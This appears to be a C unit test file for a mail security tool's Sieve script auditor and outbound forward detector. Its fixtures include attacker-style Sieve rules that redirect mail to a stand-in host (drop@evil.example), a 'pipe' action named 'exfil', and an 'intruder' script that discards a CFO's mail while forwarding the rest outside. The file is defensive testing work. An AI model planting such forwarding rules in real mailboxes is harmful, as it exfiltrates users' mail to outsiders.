/*
 * test_sieve_audit.c - the Sieve reader (actions, targets, conditions,
 * strings, comments, text: blocks, syntax errors and limits), the
 * judgement of findings, the audit over a sieve_dir with the store
 * (first audit, unchanged, a new redirect, a removed rule, an oversized
 * script), and the forward detector through the real pipeline (outbound
 * mail with X-Sieve-Redirected-From or Resent-* to an outside address).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "account/sieve_audit.h"
#include "detect/detect.h"
#include "outbound/outbound.h"
#include "policy/pipeline.h"
#include "store/store.h"
#include "store/store_audit.h"
#include "util/config.h"
#include "util/util.h"
#include "testutil.h"

struct parse_case {
	const char *script;
	int rc;
	const char *actions;	/* "kind:target:cond kind:target:cond ..." */
};

static char *
describe(const struct sieve_script *s)
{
	char *out = xstrdup("");

	for (size_t i = 0; i < s->nact; i++) {
		char *n = xasprintf("%s%s%s:%s:%d", out, i ? " " : "",
		    sieve_kind_name(s->act[i].kind), s->act[i].target, s->act[i].conditional);
		free(out);
		out = n;
	}
	return out;
}

static void
test_parse(void **state)
{
	static const struct parse_case cases[] = {
		{ "", 0, "" },
		{ "keep;", 0, "" },
		{ "redirect \"a@evil.example\";", 0, "redirect:a@evil.example:0" },
		{ "require \"copy\"; redirect :copy \"b@evil.example\";", 0,
		    "redirect_copy:b@evil.example:0" },
		{ "REDIRECT :COPY \"c@x.example\";", 0, "redirect_copy:c@x.example:0" },
		{ "if header :contains \"subject\" \"invoice\" { discard; stop; }", 0,
		    "discard::1" },
		{ "if false { keep; } elsif true { reject \"go away\"; } else { fileinto \"Junk\"; }",
		    0, "reject:go away:1 fileinto:Junk:1" },
		{ "if anyof (not exists \"x\", allof (size :over 10K, true)) { ereject \"no\"; }",
		    0, "reject:no:1" },
		{ "fileinto :flags [\"\\\\Seen\", \"x\"] \"INBOX.Trash\";", 0,
		    "fileinto:INBOX.Trash:0" },
		{ "redirect \"q\\\"uote@x.example\";", 0, "redirect:q\"uote@x.example:0" },
		{ "# comment\r\n/* block\r\n comment */ discard;\r\n", 0, "discard::0" },
		{ "vacation :days 3 :subject \"away\" text:\r\nline one\r\n..dot\r\n.\r\n;", 0,
		    "vacation::0" },
		{ "reject text: # why\nfirst\n.\n;", 0, "reject:first\r\n:0" },
		{ "require \"vnd.dovecot.pipe\"; pipe :try \"exfil\" [\"-x\"];", 0, "pipe:exfil:0" },
		{ "set \"t\" \"x@evil.example\"; redirect \"${t}\";", 0, "redirect:${t}:0" },
		/* syntax errors keep what came before */
		{ "discard; redirect \"a@b.example\"", -1, "discard::0" },
		{ "if true { discard;", -1, "discard::1" },
		{ "redirect \"unterminated;", -1, "" },
		{ "discard; }", -1, "discard::0" },
		{ "/* never closed", -1, "" },
		{ "reject text:\nno end", -1, "" },
		{ "redirect [\"a\", ];", -1, "" },
		{ "@", -1, "" },
		{ "dis\0card;", -1, "" },
	};
	char err[64];

	(void)state;
	for (size_t i = 0; i < UTIL_ARRAY_LEN(cases); i++) {
		struct sieve_script s;
		size_t len = i == UTIL_ARRAY_LEN(cases) - 1 ? 9 : strlen(cases[i].script);
		int rc = sieve_parse(cases[i].script, len, &s);
		char *d = describe(&s);
		snprintf(err, sizeof(err), "case %zu", i);
		if (rc != cases[i].rc || strcmp(d, cases[i].actions) != 0)
			fail_msg("%s: %s: rc %d (%s) actions \"%s\", want rc %d \"%s\"", err,
			    cases[i].script, rc, s.errmsg, d, cases[i].rc, cases[i].actions);
		assert_int_equal(s.error, rc < 0);
		if (rc < 0)
			assert_true(strncmp(s.errmsg, "line ", 5) == 0);
		free(d);
		sieve_script_clear(&s);
	}
}

static void
test_limits(void **state)
{
	struct sieve_script s;
	struct buf_like { char *p; } b;
	size_t n;

	(void)state;
	/* nesting: 32 levels pass, 33 is a limit */
	for (int depth = SIEVE_MAX_DEPTH; depth <= SIEVE_MAX_DEPTH + 1; depth++) {
		b.p = xstrdup("");
		for (int i = 0; i < depth; i++) {
			char *t = xasprintf("%sif true {", b.p);
			free(b.p);
			b.p = t;
		}
		char *t = xasprintf("%sdiscard;", b.p);
		free(b.p);
		b.p = t;
		for (int i = 0; i < depth; i++) {
			t = xasprintf("%s}", b.p);
			free(b.p);
			b.p = t;
		}
		int rc = sieve_parse(b.p, strlen(b.p), &s);
		assert_int_equal(rc, depth <= SIEVE_MAX_DEPTH ? 0 : -1);
		assert_int_equal(s.limit, depth > SIEVE_MAX_DEPTH);
		sieve_script_clear(&s);
		free(b.p);
	}
	/* tests nested with not: the same bound, no stack growth beyond it */
	n = 100000;
	b.p = xmalloc(n * 4 + 32);
	strcpy(b.p, "if ");
	for (size_t i = 0; i < n; i++)
		strcat(b.p + 3 + i * 4, "not ");
	strcat(b.p, "true { discard; }");
	assert_int_equal(sieve_parse(b.p, strlen(b.p), &s), -1);
	assert_true(s.limit);
	sieve_script_clear(&s);
	free(b.p);
	/* actions: at most SIEVE_MAX_ACTIONS */
	n = SIEVE_MAX_ACTIONS + 10;
	b.p = xmalloc(n * 8 + 1);
	b.p[0] = '\0';
	for (size_t i = 0; i < n; i++)
		memcpy(b.p + i * 8, "discard;", 9);
	assert_int_equal(sieve_parse(b.p, strlen(b.p), &s), -1);
	assert_true(s.limit);
	assert_int_equal(s.nact, SIEVE_MAX_ACTIONS);
	sieve_script_clear(&s);
	free(b.p);
}

static void
write_file(const char *path, const char *text)
{
	FILE *fp = fopen(path, "w");

	assert_non_null(fp);
	fputs(text, fp);
	assert_int_equal(fclose(fp), 0);
}

static const struct sieve_finding *
find(const struct sieve_user_audit *ua, enum sieve_kind k, const char *target)
{
	for (size_t i = 0; i < ua->nf; i++)
		if (ua->f[i].kind == k && strcmp(ua->f[i].target, target) == 0)
			return &ua->f[i];
	return NULL;
}

static void
test_audit(void **state)
{
	char dir[] = "/tmp/test-sieve-XXXXXX", err[256], *p;
	struct config *cfg = config_new();
	struct sieve_user_audit ua;
	const struct sieve_finding *f;
	struct store *st;
	char **users;

	(void)state;
	assert_non_null(mkdtemp(dir));
	p = xasprintf("%s/sieve", dir);
	assert_int_equal(config_set(cfg, "sieve_dir", p, err, sizeof(err)), 0);
	assert_int_equal(config_set(cfg, "local_domains", "sekisho.test corp.example", err,
	    sizeof(err)), 0);
	assert_int_equal(config_set(cfg, "sieve_max_size", "2k", err, sizeof(err)), 0);
	free(p);
	p = xasprintf("%s/sieve/taro", dir);
	assert_int_equal(util_mkdirs(p, 0700), 0);
	free(p);
	p = xasprintf("%s/sieve/hanako", dir);
	assert_int_equal(util_mkdirs(p, 0700), 0);
	free(p);
	p = xasprintf("%s/sieve/taro/main.sieve", dir);
	write_file(p, "require [\"copy\",\"fileinto\"];\n"
	    "redirect :copy \"drop@evil.example\";\n"
	    "redirect \"boss@corp.example\";\n"
	    "fileinto \"Archive\";\n");
	p = (free(p), xasprintf("%s/sieve/taro/.dovecot.sieve", dir));
	assert_int_equal(symlink("main.sieve", p), 0);
	p = (free(p), xasprintf("%s/sieve.db", dir));
	st = store_open(p, err, sizeof(err));
	assert_non_null(st);
	free(p);

	users = sieve_users(cfg, err, sizeof(err));
	assert_non_null(users);
	assert_string_equal(users[0], "hanako");
	assert_string_equal(users[1], "taro");
	assert_null(users[2]);
	for (size_t i = 0; users[i]; i++)
		free(users[i]);
	free(users);

	/* first audit: everything is new; the external :copy is risky, the
	 * local redirect and the fileinto are not; the symlink is not read */
	assert_int_equal(sieve_audit_user(cfg, st, "taro", &ua), 0);
	assert_null(ua.error);
	assert_true(ua.first);
	assert_int_equal(ua.nf, 3);
	f = find(&ua, SIEVE_REDIRECT_COPY, "drop@evil.example");
	assert_non_null(f);
	assert_true(f->risky && f->external && f->is_new);
	f = find(&ua, SIEVE_REDIRECT, "boss@corp.example");
	assert_non_null(f);
	assert_false(f->risky);
	assert_false(f->external);
	assert_int_equal(ua.new_risky, 1);
	sieve_user_audit_clear(&ua);

	/* again, unchanged: nothing new */
	assert_int_equal(sieve_audit_user(cfg, st, "taro", &ua), 0);
	assert_false(ua.first);
	assert_false(ua.changed);
	assert_int_equal(ua.new_risky, 0);
	for (size_t i = 0; i < ua.nf; i++)
		assert_false(ua.f[i].is_new);
	sieve_user_audit_clear(&ua);

	/* the intruder adds a discard and drops the :copy for a plain redirect */
	p = xasprintf("%s/sieve/taro/main.sieve", dir);
	write_file(p, "if address :is \"from\" \"cfo@partner.example\" { discard; }\n"
	    "redirect \"drop@evil.example\";\n"
	    "redirect \"boss@corp.example\";\n"
	    "fileinto \"Archive\";\n");
	free(p);
	assert_int_equal(sieve_audit_user(cfg, st, "taro", &ua), 0);
	assert_true(ua.changed);
	assert_int_equal(ua.new_risky, 2);
	f = find(&ua, SIEVE_DISCARD, "");
	assert_true(f != NULL && f->is_new && f->conditional);
	f = find(&ua, SIEVE_REDIRECT, "drop@evil.example");
	assert_true(f != NULL && f->is_new && f->risky);
	f = find(&ua, SIEVE_REDIRECT, "boss@corp.example");
	assert_true(f != NULL && !f->is_new);
	assert_int_equal(ua.nremoved, 1);
	assert_string_equal(ua.removed[0], "redirect_copy|drop@evil.example|main.sieve");
	sieve_user_audit_clear(&ua);

	/* a script over sieve_max_size is a risky finding, not parsed */
	p = xasprintf("%s/sieve/hanako/big.sieve", dir);
	{
		char *big = xmalloc(4096);
		memset(big, '#', 4095);
		big[4095] = '\0';
		write_file(p, big);
		free(big);
	}
	free(p);
	assert_int_equal(sieve_audit_user(cfg, st, "hanako", &ua), 0);
	assert_int_equal(ua.nf, 1);
	assert_int_equal(ua.f[0].kind, SIEVE_UNPARSED);
	assert_true(ua.f[0].risky);
	assert_non_null(strstr(ua.f[0].target, "sieve_max_size"));
	sieve_user_audit_clear(&ua);

	/* no way out of sieve_dir; a user without scripts has no findings */
	assert_int_equal(sieve_audit_user(cfg, st, "../etc", &ua), 0);
	assert_non_null(ua.error);
	sieve_user_audit_clear(&ua);
	assert_int_equal(sieve_audit_user(cfg, st, "nobody", &ua), 0);
	assert_null(ua.error);
	assert_int_equal(ua.nf, 0);
	sieve_user_audit_clear(&ua);

	store_close(st);
	config_free(cfg);
	tu_rmtree(dir);
}

/* ---- the forward detector through the pipeline ---- */

static int
run_mail(const char *mail, const char *listener, const char *rcpt, const char *want,
    const char *not_want)
{
	struct config *cfg = config_new();
	struct pipeline *pl;
	struct envelope *env = envelope_new();
	struct scan_result res;
	struct verdict v;
	char err[512], dir[] = "/tmp/test-fwd-XXXXXX";
	int ok;

	assert_non_null(mkdtemp(dir));
	tu_offline(cfg, dir);
	assert_int_equal(config_set(cfg, "local_domains", "sekisho.test", err, sizeof(err)), 0);
	pl = pipeline_new(cfg, outbound_pipeline_ops(), err, sizeof(err));
	if (pl == NULL)
		fail_msg("pipeline_new: %s", err);
	pipeline_set_record(pl, 0);
	util_strlcpy(env->id, "fwdtest", sizeof(env->id));
	env->listener = xstrdup(listener);
	env->client_addr = xstrdup("127.0.0.1");
	env->helo = xstrdup("localhost");
	env->mail_from = xstrdup("taro@sekisho.test");
	envelope_add_rcpt(env, rcpt, NULL, 0);
	assert_int_equal(pipeline_run_mem(pl, env, mail, strlen(mail), &v, &res), 0);
	ok = (want == NULL || result_has(&res, want)) &&
	    (not_want == NULL || !result_has(&res, not_want));
	if (!ok)
		for (size_t i = 0; i < res.nsyms; i++)
			fprintf(stderr, "# %s %s\n", res.syms[i].name, res.syms[i].reason);
	scan_result_clear(&res);
	verdict_clear(&v);
	envelope_free(env);
	pipeline_free(pl);
	config_free(cfg);
	tu_rmtree(dir);
	return ok;
}

static void
test_forward_detector(void **state)
{
	static const char sieve_mail[] =
	    "X-Sieve-Redirected-From: taro@sekisho.test\r\n"
	    "From: Partner <cfo@partner.example>\r\n"
	    "To: taro@sekisho.test\r\n"
	    "Subject: invoice\r\n"
	    "Date: Sun, 29 Nov 2026 10:00:00 +0000\r\n"
	    "Message-ID: <1@partner.example>\r\n\r\nbody\r\n";
	static const char resent_mail[] =
	    "Resent-From: taro@sekisho.test\r\n"
	    "Resent-To: drop@evil.example\r\n"
	    "From: Partner <cfo@partner.example>\r\n"
	    "To: taro@sekisho.test\r\n"
	    "Subject: invoice\r\n"
	    "Date: Sun, 29 Nov 2026 10:00:00 +0000\r\n"
	    "Message-ID: <2@partner.example>\r\n\r\nbody\r\n";
	static const char plain_mail[] =
	    "From: Taro <taro@sekisho.test>\r\n"
	    "To: someone@evil.example\r\n"
	    "Subject: hello\r\n"
	    "Date: Sun, 29 Nov 2026 10:00:00 +0000\r\n"
	    "Message-ID: <3@sekisho.test>\r\n\r\nbody\r\n";

	(void)state;
	assert_true(run_mail(sieve_mail, "outbound", "drop@evil.example",
	    "FWD_SIEVE_REDIRECT_EXTERNAL", "FWD_RESENT_EXTERNAL"));
	assert_true(run_mail(resent_mail, "outbound", "drop@evil.example",
	    "FWD_RESENT_EXTERNAL", "FWD_SIEVE_REDIRECT_EXTERNAL"));
	/* inside the organisation: not a finding */
	assert_true(run_mail(sieve_mail, "outbound", "hanako@sekisho.test",
	    NULL, "FWD_SIEVE_REDIRECT_EXTERNAL"));
	/* inbound mail is not our business here */
	assert_true(run_mail(sieve_mail, "inbound", "drop@evil.example",
	    NULL, "FWD_SIEVE_REDIRECT_EXTERNAL"));
	/* ordinary outbound mail */
	assert_true(run_mail(plain_mail, "outbound", "someone@evil.example",
	    NULL, "FWD_RESENT_EXTERNAL"));
	assert_true(run_mail(plain_mail, "outbound", "someone@evil.example",
	    NULL, "FWD_SIEVE_REDIRECT_EXTERNAL"));
}

static int
sent_count(const struct store_sent *m, void *arg)
{
	assert_string_equal(m->msg_id, "hist1");
	assert_string_equal(m->action, "deliver");
	assert_string_equal(m->subject, "quarterly figures");
	(*(int *)arg)++;
	return 0;
}

static int
contact_list(const char *addr, int64_t count, int64_t last_ms, void *arg)
{
	char **s = arg;
	char *n = xasprintf("%s%s%s", *s, **s ? "," : "", addr);

	(void)count;
	(void)last_ms;
	free(*s);
	*s = n;
	return 0;
}

/* The verdict hook keeps what a user sent, written when the engine ends. */
static void
test_sent_history_kept(void **state)
{
	static const char mail[] =
	    "From: Taro <taro@sekisho.test>\r\nTo: a@partner.example\r\n"
	    "Subject: quarterly figures\r\nDate: Sun, 29 Nov 2026 10:00:00 +0000\r\n"
	    "Message-ID: <h1@sekisho.test>\r\n\r\nbody\r\n";
	struct config *cfg = config_new();
	struct pipeline *pl;
	struct envelope *env = envelope_new();
	struct scan_result res;
	struct verdict v;
	struct store *st;
	char err[512], *db, *contacts = xstrdup(""), dir[] = "/tmp/test-hist-XXXXXX";
	int n = 0;

	(void)state;
	assert_non_null(mkdtemp(dir));
	tu_offline(cfg, dir);
	assert_int_equal(config_set(cfg, "local_domains", "sekisho.test", err, sizeof(err)), 0);
	pl = pipeline_new(cfg, outbound_pipeline_ops(), err, sizeof(err));
	assert_non_null(pl);
	util_strlcpy(env->id, "hist1", sizeof(env->id));
	env->listener = xstrdup("outbound");
	env->client_addr = xstrdup("127.0.0.1");
	env->helo = xstrdup("localhost");
	env->mail_from = xstrdup("taro@sekisho.test");
	env->received_ms = util_now_ms();
	envelope_add_rcpt(env, "a@partner.example", NULL, 0);
	envelope_add_rcpt(env, "hanako@sekisho.test", NULL, 0);
	assert_int_equal(pipeline_run_mem(pl, env, mail, strlen(mail), &v, &res), 0);
	assert_int_equal(v.action, ACTION_DELIVER);
	scan_result_clear(&res);
	verdict_clear(&v);
	pipeline_free(pl);	/* the writer stops and writes what is left */
	db = xasprintf("%s/sekisho.db", dir);
	st = store_open(db, err, sizeof(err));
	assert_non_null(st);
	assert_int_equal(store_user_sent_foreach(st, "taro@sekisho.test", 0, 0, sent_count, &n), 0);
	assert_int_equal(n, 1);
	assert_int_equal(store_user_contacts(st, "taro@sekisho.test", 0, contact_list,
	    &contacts), 0);
	assert_string_equal(contacts, "a@partner.example,hanako@sekisho.test");
	free(contacts);
	store_close(st);
	free(db);
	envelope_free(env);
	config_free(cfg);
	tu_rmtree(dir);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_parse),
		cmocka_unit_test(test_limits),
		cmocka_unit_test(test_audit),
		cmocka_unit_test(test_forward_detector),
		cmocka_unit_test(test_sent_history_kept),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
